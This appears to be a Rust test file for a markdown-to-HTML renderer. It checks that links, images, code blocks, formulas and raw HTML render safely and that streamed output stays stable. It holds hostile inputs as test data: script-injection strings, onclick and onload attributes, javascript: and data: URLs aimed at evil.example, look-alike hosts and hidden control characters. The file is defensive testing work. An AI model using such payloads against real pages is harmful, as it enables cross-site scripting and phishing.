pub(super) mod checker;
mod corpus;

use super::address::{Address, find_bare};
use super::{LONGEST_SOURCE, blocks, highlight, language};
use checker::{Token, check, tokens};
use corpus::{DOCUMENTS, HOSTILE};
use proptest::prelude::*;

/// The whole document as HTML.
fn html(source: &str) -> String {
    blocks(source).into_iter().map(|block| block.html).collect()
}

/// Renders and judges a document, each block by itself; what is wrong fails the test.
fn checked(source: &str) -> checker::Report {
    let mut whole = checker::Report::default();
    for block in blocks(source) {
        match check(&block.html) {
            Ok(report) => {
                whole.elements += report.elements;
                whole.deepest = whole.deepest.max(report.deepest);
                whole.text.push_str(&report.text);
                whole.text.push('\n');
            }
            Err(fault) => panic!("{fault}\nin {:.2000}\nfrom {source:.2000?}", block.html),
        }
    }
    whole
}

/// The text a reader sees.
fn text(source: &str) -> String {
    checked(source).text.trim_end().to_owned()
}

/// The addresses of all links, in order.
fn links(source: &str) -> Vec<String> {
    attributes(source).into_iter().filter(|(tag, name, _)| tag == "a" && name == "href").map(|(_, _, v)| v).collect()
}

/// Every attribute as (tag, name, value).
fn attributes(source: &str) -> Vec<(String, String, String)> {
    let mut found = Vec::new();
    for token in tokens(&html(source)).expect("well-formed") {
        if let Token::Open { tag, attributes } = token {
            found.extend(attributes.into_iter().map(|(name, value)| (tag.clone(), name, value)));
        }
    }
    found
}

const REL: &str = "rel=\"noopener noreferrer nofollow\" target=\"_blank\"";

#[test]
fn renders_text() {
    let table = [
        ("Hello", "<p>Hello</p>"),
        ("a\nb", "<p>a\nb</p>"),
        ("a  \nb", "<p>a<br>b</p>"),
        ("a\\\nb", "<p>a<br>b</p>"),
        ("*a* **b** ***c*** _d_", "<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> <em>d</em></p>"),
        ("~~gone~~", "<p><del>gone</del></p>"),
        ("costs ~5 or 3~4, 6~7", "<p>costs ~5 or 3~4, 6~7</p>"),
        ("~a *b*~", "<p>~a <em>b</em>~</p>"),
        ("`a<b` ``c`d``", "<p><code>a&lt;b</code> <code>c`d</code></p>"),
        ("a & b &amp; &lt; &copy; &#228; &unknown;", "<p>a &amp; b &amp; &lt; © ä &amp;unknown;</p>"),
        ("\"it's\" -- ...", "<p>&quot;it&#39;s&quot; -- ...</p>"),
        ("\\*a\\*", "<p>*a*</p>"),
        ("# a", "<h2>a</h2>"),
        ("## a", "<h2>a</h2>"),
        ("### a", "<h2>a</h2>"),
        ("## a\n### b\n## c\n# d\n#### e", "<h2>a</h2><h3>b</h3><h2>c</h2><h2>d</h2><h3>e</h3>"),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", "<h2>a</h2><h3>b</h3><h4>c</h4><h5>d</h5><h6>e</h6><h6>f</h6>"),
        ("a\n===\n", "<h2>a</h2>"),
        ("a\n-\n", "<h2>a</h2>"),
        ("# a {#id .class}", "<h2>a {#id .class}</h2>"),
        ("***", "<hr>"),
        ("> a\n>\n> b", "<blockquote><p>a</p><p>b</p></blockquote>"),
        ("> a\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"),
        ("a[^1]\n\n[^1]: b c", "<p>a[^1]</p><p>[^1]: b c</p>"),
        ("", ""),
        ("\n \n", ""),
        ("[a]: https://b.example", ""),
    ];
    for (source, expected) in table {
        assert_eq!(html(source), expected, "{source:?}");
        checked(source);
    }
}

#[test]
fn renders_lists() {
    let table = [
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
        ("7) a", "<ol start=\"7\"><li>a</li></ol>"),
        ("0. a", "<ol start=\"0\"><li>a</li></ol>"),
        ("- a\n  1. b\n     - c", "<ul><li>a<ol><li>b<ul><li>c</li></ul></li></ol></li></ul>"),
        (
            "- [ ] a\n- [x] *b*",
            "<ul><li><span class=\"task\" role=\"img\" aria-label=\"Not done\">☐</span> a</li>\
             <li><span class=\"task\" role=\"img\" aria-label=\"Done\">☑</span> <em>b</em></li></ul>",
        ),
    ];
    for (source, expected) in table {
        assert_eq!(html(source), expected, "{source:?}");
        checked(source);
    }
}

#[test]
fn renders_tables() {
    assert_eq!(
        html("| A & B | *C* | D |\n|---|:-:|--:|\n| 1 | `2` | 3 |\n| 4 |"),
        "<div class=\"tablewrap\" tabindex=\"0\" role=\"region\" aria-label=\"Table: A &amp; B, C, D\"><table><thead><tr>\
         <th scope=\"col\">A &amp; B</th><th scope=\"col\" class=\"c\"><em>C</em></th>\
         <th scope=\"col\" class=\"r\">D</th></tr></thead><tbody>\
         <tr><td>1</td><td class=\"c\"><code>2</code></td><td class=\"r\">3</td></tr>\
         <tr><td>4</td><td class=\"c\"></td><td class=\"r\"></td></tr></tbody></table></div>"
    );
    let long = format!("| {} |\n|---|\n", "word ".repeat(40));
    let name = attributes(&long).into_iter().find(|(_, name, _)| name == "aria-label").expect("a label").2;
    assert_eq!(name.chars().count(), "Table: ".len() + 80);
    assert!(name.ends_with('…'));
    assert!(html("| |\n|-|\n").contains("aria-label=\"Table\""));
}

#[test]
fn renders_code_as_the_design_has_it() {
    assert_eq!(
        html("```rs\nlet a = 1;\n```"),
        "<figure class=\"code\" aria-label=\"Rust code\"><div class=\"code-top\"><span>Rust</span><div class=\"acts\">\
         <button class=\"ib ib-sm scripted\" type=\"button\" aria-label=\"Wrap lines\" title=\"Wrap lines\" aria-pressed=\"false\" data-look=\"wrap\">\
         <svg class=\"i i-s\" aria-hidden=\"true\"><use href=\"/icons.svg#wrap-text\"></use></svg></button>\
         <button class=\"ib ib-sm scripted\" type=\"button\" aria-label=\"Copy code\" title=\"Copy code\" data-copy-code>\
         <svg class=\"i i-s\" aria-hidden=\"true\"><use href=\"/icons.svg#copy\"></use></svg></button></div></div>\
         <pre tabindex=\"0\" aria-label=\"Rust code block\"><code><span class=\"k\">let</span> a = \
         <span class=\"n\">1</span>;</code></pre></figure>"
    );
    let labels = [
        ("```\nx\n```", ["Code", "Code", "Code block"]),
        ("    x", ["Code", "Code", "Code block"]),
        ("```TypeScript\nx\n```", ["TypeScript", "TypeScript code", "TypeScript code block"]),
        ("```bash\nx\n```", ["Shell", "Shell code", "Shell code block"]),
        ("```rust,no_run\nx\n```", ["Rust", "Rust code", "Rust code block"]),
        ("```js {1,3}\nx\n```", ["JavaScript", "JavaScript code", "JavaScript code block"]),
        ("```Brainf*ck 2\nx\n```", ["Brainf*ck", "Brainf*ck code", "Brainf*ck code block"]),
    ];
    for (source, [shown, figure, pre]) in labels {
        assert_eq!(text(source), format!("{shown}x"), "{source:?}");
        let found = attributes(source);
        let label =
            |tag: &str| found.iter().find(|(t, n, _)| t == tag && n == "aria-label").expect("a label").2.clone();
        assert_eq!((label("figure").as_str(), label("pre").as_str()), (figure, pre), "{source:?}");
    }
}

#[test]
fn a_diagram_is_offered_when_its_source_is_whole() {
    let offered = |source: &str| checked(source).text.contains("Show diagram");
    assert!(offered("```mermaid\ngraph TD\n```") && offered("~~~Mermaid\na\n~~~\n\nb"));
    assert!(!offered("```mermaid\ngraph TD\n") && !offered("```mermaid\n") && !offered("```text\na\n```"));
}

#[test]
fn formulas_stand_where_they_were_written() {
    let math = |tex: &str, display| super::math::mathml(tex, display).expect("a formula");
    let block = |tex| {
        let math = math(tex, true);
        format!("<span class=\"math\" role=\"group\" aria-label=\"Formula\" tabindex=\"0\">{math}</span>")
    };
    let table = [
        ("a $x_1$ *b*", format!("<p>a {} <em>b</em></p>", math("x_1", false))),
        ("a \\(x\\)", format!("<p>a {}</p>", math("x", false))),
        ("$$\nx\n- y\n$$", format!("<p>{}</p>", block("x\n- y"))),
        ("- \\[x\\]", format!("<ul><li>{}</li></ul>", block("x"))),
        ("**$x$**: $$y$$", format!("<p><strong>{}</strong>: {}</p>", math("x", false), block("y"))),
        ("`$x$` and $5 or $6", "<p><code>$x$</code> and $5 or $6</p>".into()),
        ("    $x$", html("    $x$").replace("math", "")),
        ("a $\\href{b}{c}$", "<p>a <code>$\\href{b}{c}$</code></p>".into()),
        (
            "[$x$](https://a.example)",
            format!("<p><a href=\"https://a.example\" {REL}>$x$</a> <small class=\"host\">(a.example)</small></p>"),
        ),
        ("![$x$](b)", "<p>$x$</p>".into()),
        ("$$\nx\n- y", "<p>$$\nx\n- y</p>".into()),
    ];
    for (source, expected) in table {
        assert_eq!(html(source), expected, "{source:?}");
        checked(source);
    }
    assert!(html("| $P(A|B)$ |\n|---|\n").contains("<math>"), "a bar in a formula ends no cell");
    let (blocks, waits) = super::blocks_with("a $x$", None);
    assert!(waits && blocks[0].html == "<p>a $x$</p>", "who sets formulas may come later");
}

#[test]
fn e13_hidden_characters_do_not_move_what_is_around_them() {
    let piled = format!(
        "a{} `b{}`\n\n```\nc{}\n```",
        "\u{301}".repeat(10_000),
        "\u{489}".repeat(10_000),
        "\u{e47}".repeat(10_000)
    );
    assert!(text(&piled).chars().count() < 60);
    for source in
        ["a\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}b", "a\u{200b}\u{2060}\u{feff}b", "a\u{e0048}\u{e0049}b"]
    {
        assert!(text(source).chars().all(|c| !chat::visible::is_hidden(c)), "{source:?}");
    }
    assert_eq!(text("[a\u{202e}b](https://a.example 'c\u{202e}d')"), "ab (a.example)");
}

#[test]
fn e07_no_picture_is_drawn_of_what_a_message_says() {
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
    let sources = [
        svg.to_owned(),
        format!("```svg\n{svg}\n```"),
        format!("![a](data:image/svg+xml,{})", svg.replace(' ', "%20").replace('<', "%3C").replace('>', "%3E")),
        "![a](data:image/svg+xml;base64,PHN2Zy8+)".into(),
        "![a](data:image/png;base64,AAAA)".into(),
        "[a](data:image/svg+xml,x)".into(),
        "![a][b]\n\n[b]: <data:image/svg+xml,x>".into(),
    ];
    for source in sources {
        for token in tokens(&html(&source)).expect("well-formed") {
            let Token::Open { tag, attributes } = token else { continue };
            // The one drawing is the icon of a button.
            let is_icon = tag == "svg" && attributes.iter().any(|(_, value)| value == "i i-s");
            assert!(tag != "img" && (tag != "svg" || is_icon), "<{tag}> from {source:?}");
            assert!(attributes.iter().all(|(_, value)| !value.starts_with("data:")), "{source:?}");
        }
    }
}

#[test]
fn highlights_the_code_of_the_design() {
    let code = "// Reads get their own pool. They may be many, but never long.
let reads = SqlitePoolOptions::new()
    .idle_timeout(Duration::from_secs(30))
    .connect_with(opts.clone().read_only(true))
    .await?;
    .connect_with(opts.pragma(\"wal_autocheckpoint\", \"1000\"))";
    let expected = "<span class=\"c\">// Reads get their own pool. They may be many, but never long.</span>
<span class=\"k\">let</span> reads = <span class=\"t\">SqlitePoolOptions</span>::<span class=\"f\">new</span>()
    .<span class=\"f\">idle_timeout</span>(<span class=\"t\">Duration</span>::<span class=\"f\">from_secs</span>(<span class=\"n\">30</span>))
    .<span class=\"f\">connect_with</span>(opts.<span class=\"f\">clone</span>().<span class=\"f\">read_only</span>(<span class=\"k\">true</span>))
    .<span class=\"k\">await</span>?;
    .<span class=\"f\">connect_with</span>(opts.<span class=\"f\">pragma</span>(<span class=\"s\">\"wal_autocheckpoint\"</span>, <span class=\"s\">\"1000\"</span>))";
    assert_eq!(highlighted("rust", code).replace("&quot;", "\""), expected);
}

/// The highlighter's output, with quotes readable and `{class:text}` for its elements.
fn brief(language: &str, code: &str) -> String {
    highlighted(language, code)
        .replace("<span class=\"", "{")
        .replace("\">", ":")
        .replace("</span>", "}")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

fn highlighted(language: &str, code: &str) -> String {
    let mut out = String::new();
    highlight::push_code(&mut out, code, language::find(language).1);
    out
}

#[test]
fn highlights_each_language() {
    let table = [
        (
            "rust",
            "fn a<'x>(c: char) { b('\\'', 'x', \"a\nb\"); println!(\"\") }",
            "{k:fn} a<'x>(c: char) { {f:b}({s:'\\''}, {s:'x'}, {s:\"a\nb\"}); {f:println}!({s:\"\"}) }",
        ),
        ("rust", "/* a\nb */ 0xff_u8 1.5 x.0", "{c:/* a\nb */} {n:0xff_u8} {n:1.5} x.{n:0}"),
        ("ts", "const a: Foo = `x\n${y}` // z", "{k:const} a: {t:Foo} = {s:`x\n${y}`} {c:// z}"),
        ("js", "'it\\'s' + \"open", "{s:'it\\'s'} + {s:\"open}"),
        ("js", "\"open\nlet a", "{s:\"open}\n{k:let} a"),
        (
            "py",
            "def f(x): # note\n  \"\"\"a\n\"b\"\"\"\n  return None",
            "{k:def} {f:f}(x): {c:# note}\n  {s:\"\"\"a\n\"b\"\"\"}\n  {k:return} {k:None}",
        ),
        ("go", "func Main() { x := `a\nb` }", "{k:func} {f:Main}() { x := {s:`a\nb`} }"),
        ("java", "public class Foo { int a = 1; }", "{k:public} {k:class} {t:Foo} { {k:int} a = {n:1}; }"),
        ("c++", "auto x = std::move(y);", "{k:auto} x = std::{f:move}(y);"),
        ("c#", "await Foo.BarAsync();", "{k:await} {t:Foo}.{f:BarAsync}();"),
        (
            "sql",
            "SELECT count(*) from t -- x\nWHERE a = 'b'",
            "{k:SELECT} count(*) {k:from} t {c:-- x}\n{k:WHERE} a = {s:'b'}",
        ),
        (
            "sh",
            "if [ $# -gt 1 ]; then echo \"a\nb\"; fi # c",
            "{k:if} [ $# -gt {n:1} ]; {k:then} {k:echo} {s:\"a\nb\"}; {k:fi} {c:# c}",
        ),
        ("json", "{\"a\": [1, \"b\", null]}", "{{f:\"a\"}: [{n:1}, {s:\"b\"}, {k:null}]}"),
        ("yaml", "my-key: it's # x\nb: true", "{f:my-key}: it's {c:# x}\n{f:b}: {k:true}"),
        ("toml", "[a]\nb = \"c\"", "[a]\n{f:b} = {s:\"c\"}"),
        ("css", "@media x { a-b: 10px #fff; /* c */ }", "{k:@media} x { {f:a-b}: {n:10px} {n:#fff}; {c:/* c */} }"),
        (
            "html",
            "<!-- a --><p class=\"b > c\" d>1 < 2</p>",
            "{c:<!-- a -->}<{k:p} {t:class}={s:\"b > c\"} {t:d}>1 < 2</{k:p}>",
        ),
        ("unknown", "let \"a\" // b", "let \"a\" // b"),
    ];
    for (language, code, expected) in table {
        assert_eq!(brief(language, code), expected, "{language}");
    }
}

#[test]
fn long_code_is_not_highlighted() {
    let code = "let a = 1;\n".repeat(10_000);
    assert!(!highlighted("rust", &code).contains("<span"));
    assert_eq!(text(&format!("```rust\n{code}```")), format!("Rust{}", code.trim_end()));
}

#[test]
fn renders_links() {
    let table = [
        (
            "[docs](https://docs.rs/x)",
            format!("<a href=\"https://docs.rs/x\" {REL}>docs</a> <small class=\"host\">(docs.rs)</small>"),
        ),
        (
            "[docs](https://docs.rs/x \"A \\\"t\\\"\")",
            format!(
                "<a href=\"https://docs.rs/x\" {REL} title=\"A &quot;t&quot;\">docs</a> <small class=\"host\">(docs.rs)</small>"
            ),
        ),
        ("[docs.rs](https://docs.rs/x)", format!("<a href=\"https://docs.rs/x\" {REL}>docs.rs</a>")),
        ("[docs.rs/x](https://docs.rs/x/)", format!("<a href=\"https://docs.rs/x/\" {REL}>docs.rs/x</a>")),
        (
            "<https://docs.rs/x?a=1&b=2>",
            format!("<a href=\"https://docs.rs/x?a=1&amp;b=2\" {REL}>https://docs.rs/x?a=1&amp;b=2</a>"),
        ),
        ("<me@a.example>", format!("<a href=\"mailto:me@a.example\" {REL}>me@a.example</a>")),
        (
            "[write](mailto:me@a.example?subject=x)",
            format!(
                "<a href=\"mailto:me@a.example?subject=x\" {REL}>write</a> <small class=\"host\">(me@a.example)</small>"
            ),
        ),
        (
            "[a *b*][r]\n\n[r]: http://A.example:80/x",
            format!(
                "<a href=\"http://a.example:80/x\" {REL}>a <em>b</em></a> <small class=\"host\">(a.example:80)</small>"
            ),
        ),
        ("[](https://a.example)", format!("<a href=\"https://a.example\" {REL}>a.example</a>")),
        (
            "(see https://a.example/b_(c).)",
            format!("(see <a href=\"https://a.example/b_(c)\" {REL}>https://a.example/b_(c)</a>.)"),
        ),
        ("`https://a.example` xhttps://b.example", "<code>https://a.example</code> xhttps://b.example".to_owned()),
        ("[a](/b) [c](//d.example) [e](#f)", "a c e".to_owned()),
        ("[*a*](javascript:b)", "<em>a</em>".to_owned()),
    ];
    for (source, expected) in table {
        assert_eq!(html(source), format!("<p>{expected}</p>"), "{source:?}");
        checked(source);
    }
}

#[test]
fn renders_images_as_links() {
    let table = [
        (
            "![A *cat*](https://a.example/x.png)",
            format!("<a class=\"img-link\" href=\"https://a.example/x.png\" {REL}>Image: A cat (a.example)</a>"),
        ),
        (
            "![](https://a.example/x.png \"T\")",
            format!("<a class=\"img-link\" href=\"https://a.example/x.png\" {REL} title=\"T\">Image (a.example)</a>"),
        ),
        (
            "![a][r]\n\n[r]: https://a.example",
            format!("<a class=\"img-link\" href=\"https://a.example\" {REL}>Image: a (a.example)</a>"),
        ),
        (
            "![a ![b](https://b.example) c](https://a.example)",
            format!("<a class=\"img-link\" href=\"https://a.example\" {REL}>Image: a b c (a.example)</a>"),
        ),
        (
            "[![a](https://a.example/x.png)](https://b.example)",
            format!("<a href=\"https://b.example\" {REL}>Image: a</a> <small class=\"host\">(b.example)</small>"),
        ),
        ("![a [b](https://b.example)](x.png)", "a b".to_owned()),
        ("![a](data:image/png;base64,AAAA)", "a".to_owned()),
        ("![a](mailto:a@b.example)", "a".to_owned()),
    ];
    for (source, expected) in table {
        assert_eq!(html(source), format!("<p>{expected}</p>"), "{source:?}");
        checked(source);
    }
}

#[test]
fn a_half_written_end_is_calm() {
    let figure = "<figure class=\"code\" aria-label=\"Code\">";
    assert!(html("```").starts_with(figure));
    assert!(html("```ru").starts_with(figure), "a half language is not named");
    assert!(html("```rust\nlet").contains("<span class=\"k\">let</span>"));
    assert_eq!(html("So:\n-"), "<p>So:</p>", "the first mark of a list makes no title");
    assert_eq!(html("So:\n- a"), "<p>So:</p><ul><li>a</li></ul>");
    assert_eq!(html("> So:\n> --"), "<blockquote><p>So:</p></blockquote>");
    assert_eq!(html("So\n---"), "<h2>So</h2>");
    assert_eq!(html("a &am"), "<p>a &amp;am</p>");
    assert_eq!(html("[a](https://b.exa"), format!("<p>[a](<a href=\"https://b.exa\" {REL}>https://b.exa</a></p>"));
    assert_eq!(html("[a](jav"), "<p>[a](jav</p>");
}

#[test]
fn hidden_characters_do_not_come_through() {
    assert_eq!(text("a\u{202e}b\u{2066}c\u{0007}d\u{e0041}e\u{9d}f"), "abcdef");
    assert_eq!(text("`a\u{202e}b`\n\n```\nc\u{2067}d\n```"), "ab\nCodecd");
    let kept = "👩\u{200d}👩 می\u{200c}خواهم 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} a\u{200e}b";
    assert_eq!(text(kept), kept);
}

#[test]
fn e01_hostile_texts_are_inert() {
    assert!(HOSTILE.len() >= 120, "the families are covered");
    let wrappers: &[(&str, &str)] = &[
        ("", ""),
        ("a ", " b"),
        ("- ", "\n- b"),
        ("> ", "\n\nb"),
        ("# ", ""),
        ("**", "**"),
        ("*", "*"),
        ("~~", "~~"),
        ("`", "`"),
        ("```\n", "\n```"),
        ("```", "\nx\n```"),
        ("```html\n", ""),
        ("| a |\n|---|\n| ", " |"),
        ("| ", " |\n|---|\n| a |"),
        ("[", "](https://a.example)"),
        ("[a](", ")"),
        ("[a](<", ">)"),
        ("[a](https://a.example/", ")"),
        ("[a](https://a.example \"", "\")"),
        ("![", "](https://a.example)"),
        ("![a](", ")"),
        ("![a](https://a.example '", "')"),
        ("[a]\n\n[a]: ", ""),
        ("[a]\n\n[a]: https://a.example '", "'"),
        ("https://a.example/", ""),
        ("https://", ""),
        ("<https://a.example/", ">"),
        ("<div>\n", "\n</div>"),
        ("<!-- ", " -->"),
        ("&", ";"),
        ("\\", ""),
        ("    ", ""),
    ];
    for hostile in HOSTILE {
        for (before, after) in wrappers {
            checked(&format!("{before}{hostile}{after}"));
        }
    }
}

#[test]
fn e01_raw_html_is_shown_as_text() {
    for source in
        ["a <b onclick=\"x\">c</b>", "<div>\n<script>alert('1')</script>\n</div>", "<!-- a --> b", "<br>", "a<br/>b"]
    {
        assert_eq!(text(source).replace('\n', ""), source.replace('\n', ""), "{source:?}");
    }
    assert_eq!(html("<p>\na"), "<p>&lt;p&gt;<br>a</p>");
}

/// Markdown from its own vocabulary: what a parser has rules for, in any order.
fn soup() -> impl Strategy<Value = String> {
    let words = prop::sample::select(vec![
        "a",
        "b c",
        " ",
        "  ",
        "    ",
        "\n",
        "\n\n",
        "\t",
        "\r\n",
        "*",
        "**",
        "_",
        "~",
        "~~",
        "`",
        "``",
        "```",
        "~~~",
        "> ",
        ">",
        "- ",
        "+ ",
        "1. ",
        "2) ",
        "# ",
        "###",
        "---",
        "===",
        "***",
        "|",
        "|-|",
        "|a|b|\n|-|:-:|\n",
        "[",
        "]",
        "(",
        ")",
        "[a](",
        "![",
        "](",
        "]: ",
        "[a]",
        "<",
        ">",
        "</",
        "<b>",
        "<div>",
        "<!--",
        "-->",
        "<script>",
        "<?",
        "&",
        "&amp;",
        "&lt;",
        "&#60;",
        ";",
        "\\",
        "\"",
        "'",
        "://",
        "http://",
        "https://a.example/",
        "javascript:",
        "mailto:a@b.example",
        "<https://b.example>",
        "<a@b.example>",
        "é",
        "漢",
        "👩\u{200d}👩",
        "\u{202e}",
        "\0",
        "\u{feff}",
        "[ ] ",
        "[x] ",
        "rust\n",
        "html\n",
        "let x = \"",
        "/*",
        "//",
        "0",
        ".",
        "!",
        "@",
        "%",
        "{",
        "}",
        "^",
        "$",
        "$x$",
        "$$",
        "$$\n",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        "\\frac{a}{b}",
        "x=\"",
    ]);
    prop::collection::vec(words, 0..60).prop_map(|words| words.concat())
}

proptest! {
    // PROPTEST_CASES may ask for more.
    #![proptest_config(ProptestConfig::with_cases(ProptestConfig::default().cases.max(1000)))]

    #[test]
    fn e02_any_text_stays_within_the_list(source in any::<String>()) {
        checked(&source);
    }

    #[test]
    fn e02_any_markdown_stays_within_the_list(source in soup()) {
        checked(&source);
    }

    #[test]
    fn e02_hostile_texts_in_any_company_stay_within_the_list(
        hostile in prop::sample::select(HOSTILE), before in soup(), after in soup()
    ) {
        checked(&format!("{before}{hostile}{after}"));
    }

    #[test]
    fn e02_any_destination_is_allowed_or_no_link(destination in "(ht|HT)?tps?:/?/?[\\PC\\x00-\\x20]{0,12}|\\PC{0,20}") {
        checked(&format!("[a](<{destination}>)\n\n![a](<{destination}>)\n\n<{destination}>"));
    }

    #[test]
    fn code_is_complete_in_any_language(
        code in "[a-c<>&\"'`#/*\\-!=: \\n.\\\\@${}()é漢0-9A-C]{0,80}",
        language in prop::sample::select(vec!["rust", "ts", "py", "go", "c", "sql", "sh", "json", "yaml", "css", "html", "none"])
    ) {
        let out = highlighted(language, &code);
        prop_assert_eq!(check(&out).expect("safe").text, code);
    }

    #[test]
    fn e04_earlier_blocks_stay_while_a_text_grows(source in soup(), cut in any::<prop::sample::Index>()) {
        // Definitions may change earlier words.
        let source = source.replace("]:", "] :");
        let mut at = cut.index(source.len() + 1);
        while !source.is_char_boundary(at) { at -= 1; }
        assert_only_the_end_changed(&source[..at], &source);
    }
}

/// The promise of [`blocks`]: all but the last block stay when a line is complete, all but the last
/// two otherwise.
fn assert_only_the_end_changed(before: &str, after: &str) {
    let (old, new) = (blocks(before), blocks(after));
    let open = if before.ends_with('\n') && !after[before.len()..].starts_with('\r') { 1 } else { 2 };
    let stable = old.len().saturating_sub(open);
    assert_eq!(old[..stable], new[..stable.min(new.len())], "{before:?}\nthen {after:?}");
}

#[test]
fn e03_only_plain_addresses_become_links() {
    let refused = [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\u{1}javascript:alert(1)",
        "javascript%3Aalert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///x",
        "blob:https://a.example/x",
        "//evil.example",
        "\\\\evil.example",
        "/x",
        "x",
        "x.html",
        "?x",
        "#x",
        "",
        " ",
        ":",
        "https:",
        "https:/",
        "https://",
        "https:///x",
        "https:evil.example",
        "https:/evil.example",
        "https:\\\\evil.example",
        "https://?x",
        "https://#x",
        "https://:80",
        "https://a@b.example",
        "https://a.example:x",
        "https://a.example:123456",
        "https://a.example:80:80",
        "https://a%2eb",
        "https://a b",
        "https://a..b",
        "https://.a",
        "https://a<b",
        "https://a\"b",
        "https://a'b",
        "https://[::1",
        "https://[x]",
        "https://[]",
        "https://[::1]a",
        "ht\u{0}tps",
        "ftp://a.example",
        "ws://a.example",
        "mailto:",
        "mailto:x",
        "mailto:@x",
        "mailto:x@",
        "mailto:?to=x@y",
        "mailto:a b@c",
        "httpſ://a.example",
        "ｈttps://a.example",
        "https\u{ff1a}//a.example",
        "\u{a0}https://a.example",
        "https:\u{a0}//a.example",
    ];
    for address in refused {
        assert!(Address::parse(address).is_none(), "{address:?} became a link");
    }
    let allowed = [
        ("https://a.example", "https://a.example", "a.example"),
        ("HTTPS://A.Example/B", "https://a.example/B", "a.example"),
        (" ht\ttp://a.ex\nample\u{7}/x ", "http://a.example/x", "a.example"),
        ("http://127.0.0.1:8080/?a#b", "http://127.0.0.1:8080/?a#b", "127.0.0.1:8080"),
        ("http://[::1]:80/", "http://[::1]:80/", "[::1]:80"),
        ("https://a.example:/x", "https://a.example/x", "a.example"),
        ("https://a.example./x", "https://a.example/x", "a.example"),
        ("https://a.example\\@evil.example", "https://a.example\\@evil.example", "a.example"),
        ("https://bücher.example/ä", "https://xn--bcher-kva.example/ä", "xn--bcher-kva.example"),
        ("https://аpple.com", "https://xn--pple-43d.com", "xn--pple-43d.com"),
        ("https://例え.テスト", "https://xn--r8jz45g.xn--zckzah", "xn--r8jz45g.xn--zckzah"),
        ("https://ПРИМЕР.испытание", "https://xn--e1afmkfd.xn--80akhbyknj4f", "xn--e1afmkfd.xn--80akhbyknj4f"),
        ("MAILTO:a@b.example?subject=x", "mailto:a@b.example?subject=x", "a@b.example"),
    ];
    for (address, href, target) in allowed {
        let found = Address::parse(address).unwrap_or_else(|| panic!("{address:?} was refused"));
        assert_eq!((found.href.as_str(), found.target.as_str()), (href, target));
    }
}

#[test]
fn e03_the_host_is_told_unless_the_text_tells_it() {
    let shown = |source: &str| html(source).contains("<small");
    assert!(shown("[https://bank.example](https://evil.example)"));
    assert!(shown("[bank.example](https://evil.example)"));
    assert!(shown("[bank.example](https://bank.example.evil.example)"));
    assert!(shown("[a](https://a.example)"));
    assert!(shown("[аpple.com](https://аpple.com)"), "a look-alike shows its ASCII form");
    assert!(!shown("[HTTPS://Bank.example/](https://bank.example)"));
    assert!(!shown("[*bank.example*](https://bank.example/x)"));
    let long = format!("[a](https://bank.example.{}evil.example)", "x.".repeat(60));
    assert!(text(&long).ends_with("evil.example)"), "the end of a long host stays visible");
    assert!(text(&long).contains("(…"));
}

#[test]
fn finds_bare_addresses() {
    let table = [
        ("a https://b.example/c d", Some("https://b.example/c")),
        ("HTTP://b.example", Some("HTTP://b.example")),
        ("(https://b.example/c)", Some("https://b.example/c")),
        ("https://b.example/c_(d)", Some("https://b.example/c_(d)")),
        ("https://b.example/c?!.,:;'\"*_~", Some("https://b.example/c")),
        ("日本https://b.example", None),
        ("見る：https://b.example。次", Some("https://b.example")),
        ("ftp://b.example", None),
        ("https:/b.example", None),
        ("a://b https://c", Some("https://c")),
    ];
    for (source, expected) in table {
        assert_eq!(find_bare(source).map(|(start, end)| &source[start..end]), expected, "{source:?}");
    }
}

/// A page that follows a growing text and, as the promise allows, replaces only its last two
/// blocks.
fn stream(source: &str) -> Vec<String> {
    let mut page: Vec<String> = Vec::new();
    for (end, c) in source.char_indices() {
        let end = end + c.len_utf8();
        checked(&source[..end]);
        let kept = page.len().saturating_sub(2);
        page.truncate(kept);
        page.extend(blocks(&source[..end]).into_iter().skip(kept).map(|block| block.html));
    }
    page
}

#[test]
fn e04_every_cut_of_a_hostile_text_is_safe() {
    for hostile in HOSTILE {
        let page = stream(hostile);
        if !hostile.contains("]:") {
            assert_eq!(page.concat(), html(hostile), "{hostile:?}");
        }
    }
}

#[test]
fn e04_a_streamed_answer_ends_as_one_that_came_whole() {
    for document in DOCUMENTS {
        assert_eq!(stream(document).concat(), html(document));
        assert!(blocks(document).len() > 5);
        for (start, _) in document.match_indices('\n') {
            assert_only_the_end_changed(&document[..=start], document);
        }
    }
}

#[test]
fn e05_names_and_titles_are_text_only() {
    let texts =
        ["<script>alert(1)</script>", "\" onclick=\"alert(1)", "'><img src=x>", "a&quot;b", "</code></pre><b>", "`{}`"];
    for hostile in texts {
        let decoded = hostile.replace("&quot;", "\"");
        let escaped = hostile.replace('\\', "\\\\").replace('"', "\\\"");

        let found = attributes(&format!("[a](https://a.example \"{escaped}\")"));
        assert!(found.contains(&("a".into(), "title".into(), decoded.clone())), "title of {hostile:?}: {found:?}");

        let alt = hostile.replace('<', "\\<").replace('`', "\\`");
        assert_eq!(text(&format!("![{alt}](https://a.example)")), format!("Image: {decoded} (a.example)"));

        let info = decoded.split([' ', ',', '{']).next().unwrap_or("");
        if !info.is_empty() && !info.contains('`') {
            let fence = format!("~~~{hostile}\nx\n~~~");
            let name: String =
                if info.chars().count() > 30 { info.chars().take(29).chain(['…']).collect() } else { info.into() };
            assert_eq!(text(&fence), format!("{name}x"), "{fence:?}");
            assert!(attributes(&fence).contains(&("figure".into(), "aria-label".into(), format!("{name} code"))));
        }
        checked(&format!("| {hostile} |\n|---|\n| a |"));
    }
    let long = format!("```{}\nx\n```", "<".repeat(100));
